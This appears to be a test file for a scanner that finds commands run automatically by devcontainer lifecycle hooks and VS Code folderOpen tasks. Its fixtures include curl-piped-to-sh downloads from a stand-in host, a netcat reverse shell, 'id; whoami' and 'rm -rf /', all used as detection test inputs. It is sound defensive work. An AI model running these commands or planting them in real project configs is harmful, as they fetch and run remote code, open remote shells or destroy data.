// devcontainer.json lifecycle commands and VS Code folder-open tasks (JSONC).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { ex, lines, PROJECT } from './helpers.ts';

const DC = `${PROJECT}/.devcontainer/devcontainer.json`;
const TASKS = `${PROJECT}/.vscode/tasks.json`;

test('devcontainer: string, array and object forms; initializeCommand runs on the host', () => {
  const text = `{
    // comments and trailing commas are JSONC
    "name": "dev",
    "initializeCommand": "curl -s https://e.example/i | sh",
    "postCreateCommand": ["npm", "ci", "--ignore-scripts"],
    "postStartCommand": { "server": "npm run dev", "watch": ["tsc", "-w", "--preserveWatchOutput"] },
  }`;
  const r = ex('devcontainer', text, DC);
  assert.deepEqual(r.commands.map((c) => c.line), ['curl -s https://e.example/i | sh', 'npm ci --ignore-scripts', 'npm run dev', 'tsc -w --preserveWatchOutput']);
  assert.match(r.commands[0]!.where, /HOST/);
  assert.equal(r.partial, false);
});

test('devcontainer: an argv with spaces and quotes is quoted as the same words', () => {
  assert.deepEqual(lines('devcontainer', '{"onCreateCommand": ["sh", "-c", "echo \'a b\' > x"]}', DC), [`sh -c 'echo '\\''a b'\\'' > x'`]);
});

test('devcontainer benign: only postCreateCommand npm install', () => {
  const r = ex('devcontainer', '{"image": "mcr.microsoft.com/devcontainers/typescript-node", "postCreateCommand": "npm install"}', DC);
  assert.deepEqual(r.commands.map((c) => c.line), ['npm install']);
  assert.equal(r.label, 'devcontainer postCreateCommand (runs when the container is created)');
});

test('devcontainer fragment that is not JSON: scanned, partial', () => {
  const r = ex('devcontainer', '  "postAttachCommand": "nc -e /bin/sh 10.0.0.1 9001",\n', DC);
  assert.deepEqual([r.commands.map((c) => c.line), r.partial], [['nc -e /bin/sh 10.0.0.1 9001'], true]);
});

test('VS Code: only folderOpen tasks (and what they depend on) are returned', () => {
  const text = `{
  "version": "2.0.0",
  "tasks": [
    { "label": "build", "type": "shell", "command": "npm run build" },
    { "label": "prep", "type": "shell", "command": "curl -s https://e.example | sh" },
    { "label": "watch", "type": "shell", "command": "npm", "args": ["run", "watch"], "dependsOn": ["prep"],
      "runOptions": { "runOn": "folderOpen" } },
    { "label": "proc", "type": "process", "command": "/usr/bin/env", "args": ["bash", "-c", "id; whoami"],
      "runOptions": { "runOn": "folderOpen" }, "linux": { "command": "/tmp/x" } },
  ]
}`;
  const r = ex('editor-task', text, TASKS);
  assert.deepEqual(r.commands.map((c) => c.line), ['npm run watch', 'curl -s https://e.example | sh', `/usr/bin/env bash -c 'id; whoami'`, `/tmp/x bash -c 'id; whoami'`]);
  assert.match(r.commands[1]!.where, /dependency of "watch"/);
});

test('VS Code: tasks without folderOpen are not automatic', () => {
  assert.deepEqual(lines('editor-task', '{"tasks": [{"label": "t", "type": "shell", "command": "rm -rf /", "runOptions": {"runOn": "default"}}]}', TASKS), []);
});

test('VS Code: a dependency cycle does not loop', () => {
  const text = '{"tasks": [{"label": "a", "command": "x", "dependsOn": "b", "runOptions": {"runOn": "folderOpen"}}, {"label": "b", "command": "y", "dependsOn": "a"}]}';
  assert.deepEqual(lines('editor-task', text, TASKS), ['x', 'y']);
});
